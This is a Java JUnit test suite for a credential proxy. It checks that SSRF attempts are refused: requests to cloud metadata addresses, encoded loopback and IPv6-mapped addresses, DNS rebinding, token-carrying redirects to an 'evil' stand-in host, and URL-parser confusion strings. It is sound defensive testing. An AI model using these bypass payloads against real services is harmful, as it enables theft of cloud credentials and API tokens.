package io.dormouse.local.e2e;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.locks.LockSupport;
import org.junit.jupiter.api.Test;

/** Where a request may go. */
interface DestinationAttacks {
    private static String get(String url) {
        String rest = url.substring("http://".length());
        int end = rest.indexOf('/');
        return "GET " + url + " HTTP/1.1\r\nHost: " + (end < 0 ? rest : rest.substring(0, end)) + "\r\n\r\n";
    }

    private static void refused(List<String> answers) {
        assertThat(answers).allMatch(line -> line.matches("HTTP/1\\.1 (400|403) .*|closed"), "is a refusal");
    }

    /** That nothing is dialled: {@code CredentialProxyTest}, where dialling is counted. */
    @Test
    default void s04_metadata_is_out_of_the_proxys_reach_by_address_name_and_redirect(Target target)
            throws IOException {
        target.names(Map.of("meta.attack.test", "169.254.169.254", "task.attack.test", "169.254.170.2"));
        Room room = target.main();
        for (String url : List.of(
                "http://169.254.169.254/latest/meta-data/",
                "http://169.254.170.2/v2/credentials/x",
                "http://[fd00:ec2::254]/latest/",
                "http://metadata.google.internal/",
                "http://meta.attack.test/latest/",
                "https://task.attack.test/v2/",
                "-L https://" + target.api.authority() + "/redirect?http%3A%2F%2F169.254.169.254%2Flatest%2F"))
            assertThat(room.curl("-g '" + url.replace("-L ", "-L' '") + "'"))
                    .as(url)
                    .isEqualTo("403 destination_denied");
    }

    @Test
    default void s05_numbers_and_local_names_lead_nowhere(Target target) {
        List<String> requests = new ArrayList<>();
        for (String host : List.of(
                "2130706433",
                "127.1",
                "0",
                "0x7f.1",
                "0177.0.0.1",
                "[::]",
                "[::1]",
                "localhost",
                "localhost.",
                "x.localhost",
                "0x7f000001",
                "127.0.0.1",
                "017700000001",
                "127.0.0.1.",
                "0.0.0.0")) requests.add(get("http://" + host + ":" + target.trap() + "/"));
        List<String> answers = target.main().raw(requests);
        assertThat(answers).hasSize(requests.size());
        refused(answers);
        assertThat(target.sprung).hasValue(0);
    }

    /** Every special range in every way of writing: {@code IpAddressTest}. */
    @Test
    default void s06_addresses_inside_of_addresses_are_seen(Target target) {
        List<String> requests = new ArrayList<>();
        for (String host : List.of(
                "[::ffff:169.254.169.254]",
                "[::ffff:a9fe:a9fe]",
                "[64:ff9b::a9fe:a9fe]",
                "[2002:a9fe:a9fe::]",
                "[::169.254.169.254]",
                "[::ffff:127.0.0.1]",
                "[64:ff9b::7f00:1]")) requests.add(get("http://" + host + ":" + target.trap() + "/"));
        List<String> answers = target.main().raw(requests);
        assertThat(answers).hasSize(requests.size()).allMatch(line -> line.startsWith("HTTP/1.1 403 "));
        assertThat(target.sprung).hasValue(0);
    }

    @Test
    default void s07_a_name_that_stands_for_anything_private_is_denied(Target target) throws IOException {
        target.names(Map.of(
                "ten.attack.test", "10.0.0.5",
                "shared.attack.test", "100.64.0.1",
                "loop.attack.test", "127.0.0.1",
                "six.attack.test", "::1",
                "mixed.attack.test", "93.184.216.34 127.0.0.1",
                "other.attack.test", "127.0.0.1 93.184.216.34"));
        for (String name : List.of("ten", "shared", "loop", "six", "mixed", "other"))
            assertThat(target.main().curl("http://" + name + ".attack.test:" + target.trap() + "/"))
                    .as(name)
                    .isEqualTo("403 destination_denied");
        assertThat(target.sprung).hasValue(0);
    }

    /** That a name is looked up once, and the address dialled that was checked: {@code CredentialProxyTest}. */
    @Test
    default void s08_a_name_that_changes_its_mind_reaches_nothing_private(Target target) throws Exception {
        Room room = target.main();
        Thread flipping = Thread.ofPlatform().start(() -> {
            try {
                for (int i = 0; !Thread.currentThread().isInterrupted(); i++) {
                    target.names(Map.of("rebind.attack.test", i % 2 == 0 ? "93.184.216.34" : "127.0.0.1"));
                    LockSupport.parkNanos(1_000_000);
                }
            } catch (IOException e) {
                // Interrupted in mid-write.
            }
        });
        String answers = room.bash("for i in $(seq 1 24); do curl -s -m 3 -o /dev/null -w '%{http_code}\\n'"
                        + " http://rebind.attack.test:" + target.trap() + "/ & done; wait")
                .fine();
        flipping.interrupt();
        flipping.join();
        target.names(Map.of());
        assertThat(answers).contains("403");
        assertThat(target.sprung).hasValue(0);
    }

    @Test
    default void s09_a_redirect_is_handed_back_and_no_secret_follows_it(Target target) {
        Room room = target.main();
        String use = "-H \"Authorization: Bearer $API_TOKEN\" ";
        String redirect = "https://" + target.api.authority() + "/redirect?";
        String another = redirect + "https%3A%2F%2F" + target.other.authority() + "%2Fs09";
        String attacker = redirect + "https%3A%2F%2F" + target.evil.authority() + "%2Fs09";
        String downgrade = redirect + "http%3A%2F%2F" + target.evilPlain.authority() + "%2Fs09";
        String port = redirect + "http%3A%2F%2Fapi.test%3A" + target.trap() + "%2Fs09";
        for (String url : List.of(another, attacker, downgrade, port))
            assertThat(room.curl(use + "'" + url + "'")).as(url).isEqualTo("302");
        assertThat(target.other.heard("/s09")).isEmpty();
        // A program that follows takes its placeholder along, and no more.
        assertThat(room.curl("-L " + use + "'" + attacker + "'")).isEqualTo("200");
        for (String url : List.of(attacker, downgrade))
            assertThat(room.curl("--location-trusted " + use + "'" + url + "'"))
                    .as(url)
                    .isEqualTo("403 credential_not_allowed");
        assertThat(room.curl("--location-trusted " + use + "'" + port + "'")).startsWith("403 ");
        assertThat(target.evil.heard("/s09")).hasSize(1).allMatch(heard -> heard.header("authorization")
                .isEmpty());
        assertThat(target.evilPlain.heard("/s09")).isEmpty();
        assertThat(target.sprung).hasValue(0);
    }

    /** A million URLs against four other parsers: {@code UrlFuzzTest}. */
    @Test
    default void s10_one_parser_decides_on_the_host_and_only_the_allowed_one_passes(Target target) {
        Room room = target.limited();
        String good = target.plain.authority();
        String bad = target.evilPlain.authority();
        List<String> tricks = new ArrayList<>(List.of(
                get("http://" + good + "@" + bad + "/s10"),
                "GET http://" + good + "@" + bad + "/s10 HTTP/1.1\r\nHost: " + bad + "\r\n\r\n",
                "GET http://" + good + "\\@" + bad + "/s10 HTTP/1.1\r\nHost: " + good + "\r\n\r\n",
                get("http://plain.test%00." + bad + "/s10"),
                "GET http://" + bad + "#@" + good + "/s10 HTTP/1.1\r\nHost: " + good + "\r\n\r\n",
                "GET http://plain.test\t." + bad + "/s10 HTTP/1.1\r\nHost: " + bad + "\r\n\r\n",
                "GET http://plain.test\r." + bad + "/s10 HTTP/1.1\r\nHost: " + bad + "\r\n\r\n",
                get("http://plain.test." + bad + "/s10"),
                get("http://evil" + good + "/s10"),
                get("http://" + bad + "/s10"),
                get("http://plain.test:" + bad.split(":")[1] + "/s10"),
                "GET http://" + bad + "/s10 HTTP/1.1\r\nHost: " + good + "\r\n\r\n",
                "GET http://" + good + "/s10 HTTP/1.1\r\nHost: " + bad + "\r\n\r\n",
                "GET /s10 HTTP/1.1\r\nHost: " + bad + "\r\n\r\n",
                "GET http:/" + bad + "/s10 HTTP/1.1\r\nHost: " + bad + "\r\n\r\n",
                "CONNECT " + good + "@" + bad + " HTTP/1.1\r\nHost: " + bad + "\r\n\r\n"));
        List<String> answers = room.raw(tricks);
        assertThat(answers).hasSize(tricks.size());
        refused(answers);
        assertThat(target.evilPlain.heard("/s10")).isEmpty();
        assertThat(target.plain.heard("/s10")).isEmpty();
        String port = good.split(":")[1];
        assertThat(room.raw(
                        List.of(get("http://PLAIN.test:" + port + "/s10"), get("http://plain.test.:" + port + "/s10"))))
                .allMatch(line -> line.startsWith("HTTP/1.1 200 "));
        assertThat(target.plain.heard("/s10")).hasSize(2);
    }
}
